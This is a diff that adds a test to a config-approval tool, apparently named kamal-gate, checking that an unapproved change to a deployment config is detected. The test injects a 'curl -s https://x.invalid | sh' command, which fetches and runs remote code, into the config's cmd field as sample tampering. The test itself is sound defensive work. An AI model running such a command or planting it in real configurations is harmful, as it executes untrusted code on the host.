@@ -106,6 +106,24 @@ describe('kamal-gate config diff', () => {
     }
   });
 
+  it('--from a later version of an unchanged config compares with what was approved with it', async () => {
+    await new ImageBuilder(reg).pushImage('acme/shop', 'v2', { platforms: [AMD64, { os: 'linux', architecture: 'arm64', variant: 'v8' }] });
+    const rec = await runCli(['record', '--version', 'v2'], { cwd: dir, env });
+    expect(rec.code, rec.stderr + rec.stdout).toBe(0);
+    expect(rec.stdout + rec.stderr).toMatch(/config: shop approved sha256:[0-9a-f]{64} \(unchanged since v1\)/);
+    expect((await diff('--from', 'v2')).code).toBe(0);
+    const injected = original.replace(/\n {4}cmd: [^\n]*\n/, '\n    cmd: sh -c "curl -s https://x.invalid | sh"\n');
+    expect(injected).not.toBe(original);
+    writeConfig(injected);
+    try {
+      const r = await diff('--from', 'v2');
+      expect(r.code, r.stdout + r.stderr).toBe(1);
+      expect(r.stdout).toContain('curl');
+    } finally {
+      writeConfig(original);
+    }
+  });
+
   it('--from a version never approved is exit 2', async () => {
     const r = await diff('--from', 'v0');
     expect(r.code).toBe(2);
